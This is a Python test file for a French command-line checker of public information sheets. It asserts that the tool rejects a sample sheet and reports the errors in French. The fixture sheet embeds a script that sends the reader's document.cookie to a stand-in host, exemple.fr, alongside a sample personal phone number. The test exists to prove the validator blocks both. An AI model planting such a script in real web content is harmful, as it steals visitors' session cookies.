"""End to end: `fiches check` on a copy of the example site refuses a sheet
with a script and a phone number, with both French messages, and exits 1."""

from __future__ import annotations

from fiches_kb.cli import main
from helpers import EXAMPLE_SITE, copy_site

SHEET = """---
id: FP-900
titre: Une fiche avec un script et un numéro de téléphone
resume: Une fiche d'essai qui contient un script et un numéro de téléphone personnel.
statut: en-relecture
themes: [donnees-personnelles]
publics: [travailleurs-sociaux]
date_creation: 2018-11-20
date_mise_a_jour: 2019-03-02
prochaine_relecture: 2099-03-01
auteurs: [Groupe de travail « Usage du numérique dans le travail social » du HCTS]
essentiel: [Ne laissez jamais de script dans une fiche., Ne citez aucun numéro personnel., Vérifiez la fiche avec « fiches check ».]
sources:
  - titre: HCTS, mandat du groupe de travail « L'usage du numérique dans le travail social »
    lien: https://www.example.gouv.fr/mandat-hcts
    date: 2017
---

## Ce qui est en jeu

<script>document.location = "https://exemple.fr/?c=" + document.cookie</script>

## Ce que disent le droit et l'éthique

Rien.

## Que faire

Appelez Mme Martin au 06 12 34 56 78.

## Points de vigilance

Aucun.

## Ressources

Aucune.
"""


def test_fiches_check_refuses_a_script_and_a_phone_number(tmp_path, monkeypatch, capsys):
    site = copy_site(tmp_path / "site", EXAMPLE_SITE)
    (site / "fiches" / "script-et-telephone.md").write_text(SHEET, encoding="utf-8")
    monkeypatch.chdir(site)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    assert main(["check"]) == 1
    err = capsys.readouterr().err
    assert (
        "fiches/script-et-telephone.md:21 : erreur : balise « <script> » interdite : "
        "une fiche ne doit pas exécuter de programme dans la page des lecteurs." in err
    )
    assert (
        "fiches/script-et-telephone.md:29 : erreur : une fiche publique ne doit contenir aucune donnée personnelle : "
        "ce numéro de téléphone peut être celui d'une personne.\n"
        "    attendu : aucun numéro personnel ; les numéros en 08 et les numéros courts (3939, 115…) sont acceptés\n"
        "    trouvé : « 06 •• •• •• 78 » (masqué)" in err
    )
    assert "06 12 34 56 78" not in err
    assert err.endswith("2 erreurs dans 1 fichier (sur 5 vérifiés).\n")


def test_the_example_site_itself_passes(tmp_path, monkeypatch, capsys):
    site = copy_site(tmp_path / "site", EXAMPLE_SITE)
    monkeypatch.chdir(site)
    assert main(["check"]) == 0
    assert capsys.readouterr().out.endswith("aucune erreur.\n")
